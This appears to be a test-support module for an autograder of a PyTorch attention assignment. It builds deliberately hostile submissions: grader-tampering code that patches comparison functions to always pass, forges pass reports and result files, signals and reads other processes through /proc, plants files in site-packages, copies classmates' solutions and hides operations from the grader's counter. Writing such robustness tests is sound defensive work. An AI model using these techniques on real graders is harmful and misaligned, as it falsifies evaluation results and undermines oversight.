"""Submissions that misbehave, built from the reference by inserting code at a named place, or from an attack's
own file in tests/tooling/redteam/."""

from pathlib import Path

from grader import capabilities
from instructor.stubs import SOLUTION_FILE, STUB_FILE

REFERENCE = SOLUTION_FILE.read_text()
STUBS = STUB_FILE.read_text()


def inject(source, after, code):
    """Insert code (indented like the anchor line's body) right after the unique anchor line."""
    lines = source.splitlines()
    matches = [i for i, line in enumerate(lines) if line.strip() == after]
    assert len(matches) == 1, f"anchor {after!r} found {len(matches)} times"
    index = matches[0]
    indent = lines[index][: len(lines[index]) - len(lines[index].lstrip())]
    if lines[index].rstrip().endswith(":"):
        indent += "    "
    body = [indent + line for line in code.strip("\n").splitlines()]
    return "\n".join(lines[: index + 1] + body + lines[index + 1 :]) + "\n"


def at_import(source, code):
    return source + "\n" + code.strip("\n") + "\n"


SDPA_BODY = '_check_qkv(q, k, v)'
CAUSAL_BODY = '# BEGIN SOLUTION'

SUBMISSIONS = {
    "reference": REFERENCE,
    "stubs": STUBS,
    "segfault_in_sdpa": inject(REFERENCE, SDPA_BODY, "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"),
    "os_exit_in_sdpa": inject(REFERENCE, SDPA_BODY, "import os\nos._exit(3)"),
    "hang_in_sdpa": inject(REFERENCE, SDPA_BODY, "while True:\n    pass"),
    "memory_bomb_in_sdpa": inject(REFERENCE, SDPA_BODY, "hog = [bytearray(1 << 30) for _ in range(64)]"),
    "sys_exit_at_import": at_import(REFERENCE, "import sys\nsys.exit(0)"),
    "os_exit_at_import": at_import(REFERENCE, "import os\nos._exit(0)"),
    "syntax_error": REFERENCE.replace("def causal_mask(seq_len, device=None):", "def causal_mask(seq_len, device=None)", 1),
    "name_error_at_import": at_import(REFERENCE, "undefined_name + 1"),
    "missing_function": REFERENCE.replace("def merge_heads(x):", "def merge_heads_renamed(x):", 1),
    "patches_comparisons": at_import(STUBS, """
import torch, torch.testing, numpy
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
try:
    import _pytest.outcomes, pytest
    pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
except Exception:
    pass
"""),
    "fake_reports_and_output": at_import(STUBS, r"""
import atexit, glob, json, os, sys
print("========== 23 passed in 0.50s ==========")
print('{"score": 100, "max_score": 100}')
def _spray():
    line = json.dumps({"body": json.dumps({"kind": "result", "id": "x", "status": "passed"}), "mac": "0" * 64})
    for pid in {os.getppid(), os.getpgrp()}:
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                with open(fd, "w") as handle:
                    handle.write(line + "\n")
            except Exception:
                pass
    for name in ("results.json", "report.json", ".report.json", "grades.csv"):
        try:
            with open(name, "w") as handle:
                handle.write('{"score": 100}')
        except Exception:
            pass
_spray()
atexit.register(_spray)
atexit.register(lambda: print("23 passed"))
"""),
    "calls_torch_sdpa": inject(REFERENCE, SDPA_BODY, """
import torch.nn.functional as F
_ = F.scaled_dot_product_attention(q, k, v)
"""),
    "calls_aten_sdpa_without_torch_function": inject(REFERENCE, SDPA_BODY, """
with torch._C.DisableTorchFunction():
    _ = torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(
        *(t.reshape(-1, 1, *t.shape[-2:]) for t in (q, k, v)))  # 4-D views: every call reaches the kernel
"""),
}


# -- attacks on the grader itself (tests/tooling/conftest.py's attacked class), one per class of attack --------------
# Each is harmless even if the sandbox failed: signals and writes only aim at processes whose command line
# holds TAMPER_SCOPE (the test's class folder) and at files made for the test (TAMPER_TARGET, probe names).

PROC_ATTACK = r"""
import glob, os, signal
def _attack():
    scope = os.environ.get("TAMPER_SCOPE")
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            cmdline = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if not scope or scope not in cmdline:
            continue
        try:
            open(f"/proc/{entry}/mem", "rb").read(16)
        except OSError:
            pass
        for fd in glob.glob(f"/proc/{entry}/fd/*"):
            try:
                handle = os.open(fd, os.O_RDWR | os.O_NONBLOCK)
                os.write(handle, b"garbage that is not a signed line\n")
                os.read(handle, 65536)
                os.close(handle)
            except OSError:
                pass
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(entry), sig)
            except OSError:
                pass
_attack()
"""

PERSIST_ATTACK = r"""
import os, torch, grader
_site = os.path.dirname(os.path.dirname(torch.__file__))
_targets = [os.path.join(_site, "zz_tamper_probe.pth"),
            os.path.join(os.path.dirname(grader.__file__), "__pycache__", "tamper_probe.cpython-311.pyc"),
            os.path.join(os.path.dirname(os.path.dirname(grader.__file__)), "tests", "tamper_probe.py")]
for _target in _targets:
    try:
        with open(_target, "w") as _handle:
            _handle.write("# tamper probe\n")
    except OSError:
        pass
"""

DAEMON_ATTACK = r"""
import os, subprocess, sys, time
def _later():
    time.sleep(3)
    with open(os.environ["TAMPER_TARGET"], "w") as handle:
        handle.write('{"score": 100}')
for _start in (lambda: os.fork(),
               lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True).pid):
    try:
        _pid = _start()
    except Exception:
        continue
    if _pid == 0:
        os.setsid()
        if os.fork() == 0:
            _later()
        os._exit(0)
"""

MEMORY_TREE_ATTACK = r"""
import os
for _ in range(4):
    try:
        if os.fork() == 0:
            hog = bytearray(400 << 20)
            os._exit(0)
    except Exception:
        pass
hog = [bytearray(1 << 30) for _ in range(4)]
"""

CLASSMATE_ATTACK = r"""
import glob, os
for _path in sorted(glob.glob(os.path.join(os.environ.get("TAMPER_SCOPE", "/nonexistent"), "*", "attention.py"))):
    try:
        exec(compile(open(_path).read(), _path, "exec"))  # a classmate's functions, if the file can be read
        break
    except Exception:
        continue
"""

TAMPERING = {
    "grader_folder_beside": {"attention.py": at_import(REFERENCE, "import grader.beside_marker"),
                             "grader/__init__.py": "", "grader/beside_marker.py": "",
                             "grader/worker.py": "raise SystemExit('a forged worker')\n"},
    "helper_module_beside": {"attention.py": at_import(REFERENCE, "import helper_beside"),
                             "helper_beside.py": "X = 1\n"},
    "sdpa_in_a_thread": {"attention.py": inject(REFERENCE, SDPA_BODY, """
import threading
import torch.nn.functional as F
box = {}
runner = threading.Thread(target=lambda: box.setdefault("out", F.scaled_dot_product_attention(q, k, v)))
runner.start()
runner.join()
""")},
    "sdpa_with_modes_popped": {"attention.py": inject(REFERENCE, SDPA_BODY, """
import torch.nn.functional as F
from torch.overrides import _pop_mode_temporarily as pop_function_mode
from torch.utils._python_dispatch import _pop_mode_temporarily as pop_dispatch_mode
with pop_function_mode(), pop_dispatch_mode():
    _ = F.scaled_dot_product_attention(q, k, v)
""")},
    "numpy_round_trip": {"attention.py": inject(REFERENCE, SDPA_BODY, "q = torch.from_numpy(q.detach().numpy().copy())")},
    "reads_and_signals_other_processes": {"attention.py": at_import(STUBS, PROC_ATTACK)},
    "persists_into_later_runs": {"attention.py": at_import(STUBS, PERSIST_ATTACK)},
    "reads_a_classmates_file": {"attention.py": at_import(STUBS, CLASSMATE_ATTACK)},
    "daemon_rewrites_results": {"attention.py": at_import(STUBS, DAEMON_ATTACK)},
    "memory_tree": {"attention.py": inject(REFERENCE, SDPA_BODY, MEMORY_TREE_ATTACK)},
    "huge_output": {"attention.py": inject(REFERENCE, SDPA_BODY, 'print("x" * 200_000_000)')},
}
PERSIST_PROBES = ("zz_tamper_probe.pth", "tamper_probe.cpython-311.pyc", "tamper_probe.py")


# -- correct but Python-looped code that hides its operations from the grader's counter -----------------

HIDE_AND_CALL = {  # how each submission runs `function` out of the counter's sight
    "mode_popped": "from torch.utils._python_dispatch import _pop_mode_temporarily\n"
                   "with _pop_mode_temporarily():\n    return function(*args, **kwargs)",
    "dispatch_disabled": "with torch._C._DisableTorchDispatch():\n    return function(*args, **kwargs)",
    "python_key_excluded": "with torch._C._ExcludeDispatchKeyGuard(torch._C.DispatchKeySet(torch._C.DispatchKey.Python)):\n"
                           "    return function(*args, **kwargs)",
    "below_the_modes": "return torch.Tensor.__torch_dispatch__(function, (), args, kwargs)",
}
HIDDEN = '''
import torch


def _hidden(function):
    def run(*args, **kwargs):
{body}
    return run


{name} = _hidden({name})
'''
FULL_MATRIX_TILED = '''
def tiled_attention(q, k, v, mask=None, is_causal=False, scale=None, block_size=64):
    _check_tiled(q, k, v, mask, block_size)
    return scaled_dot_product_attention(q, k, v, mask=mask, is_causal=is_causal, scale=scale)[0]
'''


def hidden(source, name, how):
    body = "\n".join("        " + line for line in HIDE_AND_CALL[how].splitlines())
    return at_import(source, HIDDEN.format(name=name, body=body))


def _looped_sdpa():
    from instructor.mutants import apply
    from tests.mutants.catalogue import CATALOGUE

    return apply(next(entry for entry in CATALOGUE if entry.name == "sdpa_loop_over_batch_and_heads"), REFERENCE)


LOOPED_SDPA = _looped_sdpa()
HIDING_FROM_THE_COUNTER = {
    **{f"looped_sdpa_{how}": hidden(LOOPED_SDPA, "scaled_dot_product_attention", how)
       for how in ("mode_popped", "dispatch_disabled", "below_the_modes")},
    "full_matrix_tiled_python_key_excluded": hidden(at_import(REFERENCE, FULL_MATRIX_TILED), "tiled_attention",
                                                    "python_key_excluded"),
}


# -- a red team's attacks: each in its own file, graded as a student would submit it -----------------------

ATTACKS = Path(__file__).parent / "redteam"


def redteam_submission(name: str) -> str:
    """tests/tooling/redteam/NAME.py's attention.py: the reference or the stubs, with the attack's code appended
    (its docstring's first line says which)."""
    attack = (ATTACKS / f"{name}.py").read_text()
    base = STUBS if "appended to the stubs" in attack.splitlines()[0] else REFERENCE
    return at_import(base, attack)


def grade_submission(root: Path, name: str, source: str, suite: str = "public", behind_the_scan: bool = False,
                     tasks: tuple[str, ...] = ()):
    """grader.grade.grade's report of root/name/attention.py holding source. behind_the_scan: grade it as if the
    syntax scan had let it through, to test the wall behind it (the scan refuses it today: say so beside). tasks:
    grade only those tasks' public test files (tests/tooling/small_checkout.py), where a test reads no other."""
    from grader.grade import grade
    from tests.tooling.small_checkout import small_tests, task_files

    (root / name).mkdir(parents=True, exist_ok=True)
    (root / name / "attention.py").write_text(source)
    tests_dir = small_tests(root / f"{name}-tests", task_files(tasks)) if tasks else None
    scan = (lambda source: []) if behind_the_scan else capabilities.scan
    return grade(root / name, suite, tests_dir=tests_dir, syntax_scan=scan)


# The walker: searches every readable file for attention code (the checkout's .git, a classmate's folder, a
# previous run's reports and similarity page) and runs what it finds.
WALKER = at_import(STUBS, '''
import html as _html, os as _os, re as _re, zlib as _zlib
_FOUND = []
def _texts(path):
    with open(path, "rb") as handle:
        data = handle.read(2_000_000)
    if "/.git/objects/" in path:
        try:
            data = _zlib.decompress(data)
        except Exception:
            pass
    text = data.decode(errors="replace")
    yield text
    for block in _re.findall(r"<pre>(.*?)</pre>", text, _re.S):
        yield _html.unescape(block)
for _root, _dirs, _files in _os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev")):
        _dirs[:] = []
        continue
    for _name in _files:
        _path = _os.path.join(_root, _name)
        if _path == __file__ or "site-packages" in _path or "/lib/python3" in _path:
            continue
        try:
            for _text in _texts(_path):
                if "def scaled_dot_product_attention" in _text and "weights @ v" in _text:
                    _FOUND.append(_path)
                    exec(compile(_text[_text.index("import"):], _path, "exec"), globals())
        except Exception:
            continue
''')
